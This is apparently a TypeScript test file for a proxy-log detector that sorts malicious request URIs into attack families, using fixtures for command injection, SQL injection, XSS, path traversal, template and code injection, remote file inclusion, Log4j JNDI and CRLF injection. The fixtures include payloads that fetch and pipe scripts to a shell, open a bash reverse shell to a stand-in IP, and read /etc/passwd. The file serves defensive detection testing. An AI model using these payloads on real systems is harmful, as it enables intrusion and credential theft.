import { describe, expect, it } from 'vitest';
import { findingCoversRow } from '../cover';
import { detectOn } from '../testing';
import { ATTACK_FAMILIES, PREFILTER, uriAttack } from './uri-attack';

/** Malicious URIs (host + path + query, as Spot's fulluri) per family: each must match its family. */
export const ATTACKS: Record<string, string[]> = {
  cmd_injection: [
    'shop.example.com/ping.php?ip=127.0.0.1;cat%20/etc/passwd',
    'shop.example.com/ping.php?ip=127.0.0.1|id',
    'shop.example.com/ping.php?ip=127.0.0.1%7Cid',
    'shop.example.com/cgi-bin/run?x=$(whoami)',
    'shop.example.com/cgi-bin/run?x=%24%28whoami%29',
    'shop.example.com/cgi-bin/run?x=`uname -a`',
    'shop.example.com/cgi-bin/run?x=a%60id%60',
    'shop.example.com/api?host=x;wget%20http://198.51.100.7/x.sh%20-O-|sh',
    'shop.example.com/api?host=x%3Bcurl+-s+http%3A%2F%2F198.51.100.7%2Fa%7Cbash',
    'shop.example.com/api?host=x%253Bcat%2520%252Fetc%252Fpasswd',
    'shop.example.com/api?q=1%0Aid%0A',
    'shop.example.com/api?q=1&&ping+-c+3+attacker.example',
    'shop.example.com/api?q=1;sleep+10',
    'shop.example.com/api?c=bash+-i+>%26+/dev/tcp/198.51.100.7/4444+0>%261',
    'shop.example.com/api?c=powershell.exe+-nop+-w+hidden+-enc+SQBFAFgA',
    'shop.example.com/api?c=x;cat${IFS}/etc/passwd',
    'shop.example.com/page.shtml?x=<!--#exec%20cmd="ls"-->',
    'shop.example.com/run?x=a&&whoami',
    'shop.example.com/run?x=cmd.exe+/c+dir+c:',
  ],
  sqli: [
    'shop.example.com/item.php?id=1%20UNION%20SELECT%20NULL,NULL,version()--',
    'shop.example.com/item.php?id=1+union+all+select+1,2,3',
    'shop.example.com/item.php?id=-1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users',
    "shop.example.com/login.php?user=admin'%20OR%201=1--&pass=x",
    "shop.example.com/login.php?user=admin'+or+'a'='a",
    'shop.example.com/login.php?user=admin%27%20or%20%27x%27%3D%27x',
    "shop.example.com/login.php?user=admin'--",
    'shop.example.com/login.php?user=admin%27%23',
    'shop.example.com/item.php?id=1%20AND%20SLEEP(5)',
    "shop.example.com/item.php?id=1';WAITFOR%20DELAY%20'0:0:5'--",
    'shop.example.com/item.php?id=1+and+benchmark(5000000,md5(1))',
    'shop.example.com/item.php?id=1 and extractvalue(1,concat(0x7e,version()))',
    'shop.example.com/item.php?id=1%20and%201=1%20--',
    'shop.example.com/item.php?id=1;DROP%20TABLE%20users',
    'shop.example.com/item.php?id=1%27%3B%20exec%20xp_cmdshell%28%27dir%27%29',
    'shop.example.com/item.php?id=(select%20table_name%20from%20information_schema.tables)',
    'shop.example.com/item.php?id=1%2527%2520or%25201%253D1',
    'shop.example.com/item.php?id=1+order+by+5--',
    'shop.example.com/item.php?id=1+or+1=1',
    'shop.example.com/item.php?id=-1%20OR%203%2b23-23-1=0%2b0%2b0%2b1%20--%20',
    'shop.example.com/item.php?id=1%20AND%20%27NS%3d%27ss',
    'shop.example.com/item.php?id=1+into+outfile+/tmp/x',
    'shop.example.com/item.php?id=1+and+dbms_pipe.receive_message(chr(65),5)=1',
    "shop.example.com/item.php?id=1'+and+(select+1+from+(select(sleep(5)))a)--",
  ],
  xss: [
    'shop.example.com/search?q=<script>alert(1)</script>',
    'shop.example.com/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    'shop.example.com/search?q=%253Cscript%253Ealert(1)',
    'shop.example.com/search?q="><img src=x onerror=alert(1)>',
    'shop.example.com/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
    'shop.example.com/search?q=<svg/onload=alert(1)>',
    'shop.example.com/search?q=%3Csvg%2Fonload%3Dconfirm%28%27x%27%29%3E',
    'shop.example.com/redirect?url=javascript:alert(document.domain)',
    'shop.example.com/redirect?url=javascript%3Aeval(atob(%27YWxlcnQoMSk%27))',
    'shop.example.com/search?q=<body onload=prompt(1)>',
    'shop.example.com/search?q=<iframe src=//evil.example>',
    'shop.example.com/search?q=%3Cdetails%20open%20ontoggle%3Dalert%601%60%3E',
  ],
  path_traversal: [
    'shop.example.com/download?file=../../../../etc/passwd',
    'shop.example.com/download?file=..%2F..%2F..%2Fetc%2Fshadow',
    'shop.example.com/download?file=%2e%2e%2f%2e%2e%2fwindows/win.ini',
    'shop.example.com/download?file=..%c0%af..%c0%afetc/passwd',
    'shop.example.com/download?file=..%252f..%252fboot.ini',
    'shop.example.com/static/..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
    'shop.example.com/index.php?page=php://filter/convert.base64-encode/resource=index',
    'shop.example.com/index.php?page=file:///etc/passwd',
    'shop.example.com/index.php?page=/proc/self/environ',
    // an absolute path, percent-encoded once or twice (the webscan day's Joomla and DVWA probes)
    'shop.example.com/dvwa/vulnerabilities/fi/?page=%2fetc%2fpasswd',
    'shop.example.com/index.php?format=feed&type=%252fetc%252fpasswd',
    'shop.example.com/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
    'shop.example.com/WEB-INF/web.xml',
    'shop.example.com/view.php?file=../config.php%00.jpg',
    "shop.example.com/search?q=12345'%00{%0d%0a",
  ],
  template_injection: [
    'shop.example.com/greet?name={{7*7}}',
    'shop.example.com/greet?name=%7B%7B7*7%7D%7D',
    "shop.example.com/greet?name={{7*'7'}}",
    'shop.example.com/greet?name=${7*7}',
    'shop.example.com/greet?name=%23%7B7*7%7D',
    'shop.example.com/greet?name=<%25= 7*7 %25>',
    "shop.example.com/greet?name={{''.__class__.__mro__[1].__subclasses__()}}",
    'shop.example.com/greet?name={{config.items()}}',
    "shop.example.com/greet?name=${T(java.lang.Runtime).getRuntime().exec('id')}",
    'shop.example.com/struts/x.action?redirect:%24%7B%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%7D',
  ],
  code_injection: [
    'shop.example.com/view?type=${@print(md5(31337))}',
    "shop.example.com/view?template=';print(md5(31337));$a='",
    'shop.example.com/view?doc=%27%7b%24%7bprint(int)0xFFF9999-22%7d%7d%27',
    "shop.example.com/content/'%2bresponse.write(9676140*9552316)%2b'/1",
    'shop.example.com/x.php?c=system(%27id%27)',
    'shop.example.com/x.php?c=<?php%20phpinfo();?>',
    'shop.example.com/x.php?c=eval($_POST[x])',
    'shop.example.com/x.php?c=%24{%40print(md5(31337))}',
  ],
  rfi: [
    'shop.example.com/index.php?page=http://198.51.100.7/shell.txt?',
    'shop.example.com/index.php?page=http://198.51.100.7/x.txt',
    'shop.example.com/index.php?tmpl=http://files.example.net/t/shell.txt%3F.jpg',
    'shop.example.com/index.php?file=http%3a%2f%2fattacker.example%2fn%3f.php',
    'shop.example.com/index.php?page=http%3a%2f%2fattacker.example%2fn%3f%00.php',
    'shop.example.com/index.php?view=https://attacker.example/inc/x?.register',
    'shop.example.com/components/com_x/admin.x.php?mosConfig_absolute_path=http://attacker.example/x.txt?',
    'shop.example.com/include.php?_CONF[path]=http://attacker.example/x',
  ],
  encoding_evasion: [
    'shop.example.com/cgi-bin/php-cgi?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C',
    'shop.example.com/%2569%256E%2564%2565%2578%252E%2570%2568%2570',
  ],
  jndi_injection: [
    'shop.example.com/?x=${jndi:ldap://198.51.100.7:1389/a}',
    'shop.example.com/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D',
    'shop.example.com/?x=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}',
    'shop.example.com/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}',
    'shop.example.com/?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}',
    'shop.example.com/?x=%2524%257Bjndi:dns://x.example%257D',
  ],
  crlf_injection: [
    'shop.example.com/redirect?url=%0d%0aSet-Cookie:%20session=evil',
    'shop.example.com/redirect?url=x%0D%0ALocation:%20http://evil.example',
    'shop.example.com/redirect?url=x%E5%98%8A%E5%98%8DSet-Cookie:crlf=1',
    'shop.example.com/page?x=%250d%250aContent-Length:0',
  ],
};

/** Ordinary browsing, APIs, update services and CDNs: no family may match. */
export const BENIGN_URIS: string[] = [
  "www.google.com/search?q=o'reilly+books&oq=o'reilly",
  'www.google.com/search?q=%22union+select%22+tutorial+mysql&hl=en',
  'www.bing.com/search?q=how+to+use+union+select+in+sql&form=QBLH',
  'duckduckgo.com/?q=rock+and+roll+(band)&t=h_',
  'en.wikipedia.org/wiki/Selection_(biology)',
  'en.wikipedia.org/wiki/Python_(programming_language)',
  'www.amazon.com/s?k=select+comfort+mattress&ref=nb_sb_noss',
  'shop.example.com/products?category=selected&sort=price_asc',
  'cdn.example.com/libs/jquery/jquery-3.6.0..min.js',
  'downloads.example.com/app/v1.2..3/setup-1.2.3.tar.gz',
  'static.example.com/a/b/../c/app.js',
  'www.example.com/blog/2024/01/whats-new-in-c%23-12',
  'www.example.com/search?q=cat+%26+dog+food&page=2',
  'www.example.com/tags?t=dog|cat&x=1',
  'fonts.googleapis.com/css2?family=Open+Sans|Roboto:wght@400;700&display=swap',
  'www.google.com/recaptcha/api.js?onload=onloadCallback&render=explicit',
  'maps.googleapis.com/maps/api/js?key=AIzaSyD-abc&callback=initMap&libraries=places',
  'www.google-analytics.com/collect?v=1&_v=j101&a=123&t=pageview&dl=https%3A%2F%2Fwww.example.com%2F%3Futm_source%3Dx%26utm_medium%3Dy&dt=Home%20%7C%20Example',
  'www.facebook.com/tr/?id=123&ev=PageView&dl=https%3A%2F%2Fshop.example.com%2F&rl=&if=false&ts=1700000000&sw=1920&sh=1080',
  'api.example.com/v1/items?filter=%7B%22name%22%3A%22x%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D',
  'api.example.com/v1/items?filter={"price":{"$gt":10}}&sort=-date',
  'api.example.com/graphql?query=query%20%7B%20user(id%3A%201)%20%7B%20name%20%7D%20%7D',
  'auth.example.com/callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  'auth.example.com/authorize?state=YWJjZGVm%2BZ2hp%2Fams%3D&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb',
  'download.windowsupdate.com/c/msdownload/update/software/secu/2024/01/windows10.0-kb5034122-x64_abc.cab',
  'ctldl.windowsupdate.com/msdownload/update/v3/static/trustedr/en/authrootstl.cab?e0ca2d',
  'dl.google.com/release2/chrome/abc123/120.0.6099.130_chrome_installer.exe',
  'swcdn.apple.com/content/downloads/12/34/042-12345/abc/InstallAssistant.pkg',
  'update.googleapis.com/service/update2/json?cup2key=13:abc&cup2hreq=def',
  'd1234abcd.cloudfront.net/assets/app-4f3c2a.js',
  'github.com/owner/repo/releases/download/v1.2.3/tool_1.2.3_linux_amd64.tar.gz',
  'www.example.com/search?q=it%27s+and+that%27s+it',
  "www.example.com/search?q='quoted'+and+'more'",
  'www.example.com/p?title=Tom+%26+Jerry+(1940)&year=1940',
  'www.example.com/docs/sql/select-statement.html',
  'www.example.com/ping?ip=127.0.0.1&count=3',
  'www.example.com/forum/thread?id=123&sort=asc;jsessionid=ABCDEF0123',
  'www.example.com/path;jsessionid=0A1B2C3D?id=5',
  'www.example.com/redirect?next=%2Fhome%3Fa%3D1%26b%3D2',
  'www.example.com/page?html=%3Cp%3Ehello%3C%2Fp%3E',
  'www.example.com/link?href=javascript:void(0)',
  'www.example.com/app?template=%7B%7Bname%7D%7D&x=${user}',
  'www.example.com/img/${imageId}.png',
  'www.example.com/calc?expr=7*7',
  'www.example.com/api/v2/status?sid=8f14e45fceea167a&seq=12',
  'www.example.com/online?status=online&onboarding=true',
  'www.example.com/comments?text=see+you+tomorrow...%2Fbye',
  'www.example.com/search?q=c%3A%5CUsers%5Cdocuments',
  'www.example.com/blog/how-to-edit-etc-passwd-safely',
  'www.example.com/search?q=curl+command+examples',
  'www.example.com/search?q=echo+dot+review',
  'www.example.com/a?x=1;y=2;z=3',
  'www.example.com/product/selection-of-chairs?color=red|blue',
  'www.example.com/news?id=100+and+more',
  'outlook.office365.com/owa/?ae=Item&a=Open&t=IPM.Note&id=RgAAAAC%2bH%2fAb%3d%3d',
  'login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=abc&response_type=code&scope=openid%20profile&state=x%7Cy',
  'accounts.google.com/o/oauth2/v2/auth?scope=email%20profile&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&prompt=consent',
  'www.example.com/search?q=2+or+3+%3D+5',
  'www.example.com/rss?format=atom&limit=10&order=date',
  'www.example.com/%E2%80%A6/archive',
  'www.example.com/%C3%A9t%C3%A9/%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82',
  'l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2Fpage&h=AT0abc',
  'www.example.com/login?next=https%3A%2F%2Fapp.example.com%2Fdashboard&lang=en',
  'www.example.com/share?url=https://news.example.com/article/123?utm_source=x',
  'www.example.com/img?src=http://203.0.113.5/logo.png&w=100',
  'www.google-analytics.com/g/collect?v=2&dl=https%3A%2F%2Fwww.example.com%3F&dt=Home',
  'securepubads.g.doubleclick.net/pcs/view?adurl=https://tpc.googlesyndication.com/simgad/1531608?',
  'www.example.com/docs/php/function.system.html',
  'www.example.com/search?q=operating+system(s)+comparison',
  'www.example.com/a/b?id=8f14e45fceea167a&sig=AbCdEf0123456789%2B%2F%3D%3D',
  'www.example.com/out?url=https%3A%2F%2Fdocs.example.org%2Fguide.pdf%3Fdl%3D1',
  'cdn.example.com/img?src=https://images.example.net/a.png?v=3&w=200',
  'www.example.com/r?to=https://www.example.org/page.html&utm=1',
  'www.google-analytics.com/j/collect?v=1&dl=https%3A%2F%2Fwww.example.com%2Fpage.html%3Fq%3D1.5&dt=x',
  'ads.example.net/click?redirect=https%3A%2F%2Fshop.example.com%2F%3F&cb=123',
  'sync.example.com/getuid?gdpr=0&url=https://sync.example.net/sync?prtid=36&uid=$UID',
  'pixel.example.com/sync/img?redir=https%3A//sync.example.net/sync%3Fimg%3D1%26mdid%3D%5BUID%5D',
  'www.example.com/viewer?file=https://files.example.org/report-2024.pdf',
  'www.example.com/embed?src=https%3A%2F%2Fvideo.example.org%2Fv%2Fabc.mp4%3Ft%3D10',
];

/** Searches whose text is a payload: the search engine does not run it, so they make no finding. */
const SEARCHES = [
  'www.google.com/search?q=sql+injection+%27or+1%3D1%27+explained',
  'www.google.com/search?q=what+is+%2Fetc%2Fpasswd',
  'www.bing.com/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E+xss+example',
  'duckduckgo.com/?q=log4j+%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
];

const row = (client: string, uri: string) => ({
  ts: 1_700_000_000,
  client,
  host: uri.split('/')[0],
  method: 'GET',
  uri,
  path: `/${uri.split('?')[0]!.split('/').slice(1).join('/')}`,
  query: uri.split('?')[1] ?? '',
  useragent: 'Mozilla/5.0',
  respcode: 200,
  csbytes: 400,
  scbytes: 2000,
});

describe('proxy/uri_attack patterns (JavaScript, as cover.ts tests them)', () => {
  const families = new Map(ATTACK_FAMILIES.map((f) => [f.id, new RegExp(f.pattern, 'i')]));

  for (const [family, uris] of Object.entries(ATTACKS))
    it(`matches every ${family} fixture`, () => {
      const re = families.get(family)!;
      expect(uris.filter((u) => !re.test(u))).toEqual([]);
    });

  it('lets every attack through the prefilter', () => {
    const prefilter = new RegExp(PREFILTER, 'i');
    expect(
      Object.values(ATTACKS)
        .flat()
        .filter((u) => !prefilter.test(u)),
    ).toEqual([]);
  });

  it('matches no benign URI in any family', () => {
    const hits = BENIGN_URIS.flatMap((u) =>
      ATTACK_FAMILIES.flatMap((f) =>
        f.signatures.flatMap((s, i) => (new RegExp(s, 'i').test(u) ? [`${f.id}[${i}]: ${u}`] : [])),
      ),
    );
    expect(hits).toEqual([]);
  });
});

describe('proxy/uri_attack', () => {
  it('makes one finding per (client, family) whose keys cover the attack rows (DuckDB RE2 agrees)', async () => {
    const rows = Object.entries(ATTACKS).flatMap(([, uris], i) => uris.map((u) => row(`10.0.0.${10 + i}`, u)));
    const findings = await detectOn([uriAttack], 'proxy', rows);
    const byClient = new Map(findings.map((f) => [`${f.keys.clientip} ${f.evidence.split(' carrying ')[1]}`, f]));
    Object.entries(ATTACKS).forEach(([family, uris], i) => {
      const label = ATTACK_FAMILIES.find((f) => f.id === family)!.label;
      const finding = [...byClient.values()].find(
        (f) => f.keys.clientip === `10.0.0.${10 + i}` && f.evidence.includes(label),
      );
      expect(finding, family).toBeDefined();
      expect(finding!.events, family).toBe(uris.length);
      expect(finding!.strength).toBeGreaterThanOrEqual(0.85);
      for (const uri of uris)
        expect(findingCoversRow(finding!.keys, { clientip: `10.0.0.${10 + i}`, fulluri: uri }), uri).toBe(true);
    });
  });

  it('does not fire on ordinary browsing, searches, APIs, tracking, update services or CDNs', async () => {
    const findings = await detectOn(
      [uriAttack],
      'proxy',
      [...BENIGN_URIS, ...SEARCHES].map((u) => row('10.0.0.5', u)),
    );
    expect(findings).toEqual([]);
  });

  it('honours never-included subnets', async () => {
    const findings = await detectOn([uriAttack], 'proxy', [row('10.9.0.1', ATTACKS.sqli![0]!)], {
      neverIncludedSubnets: ['10.9.0.0/16'],
    });
    expect(findings).toEqual([]);
  });
});
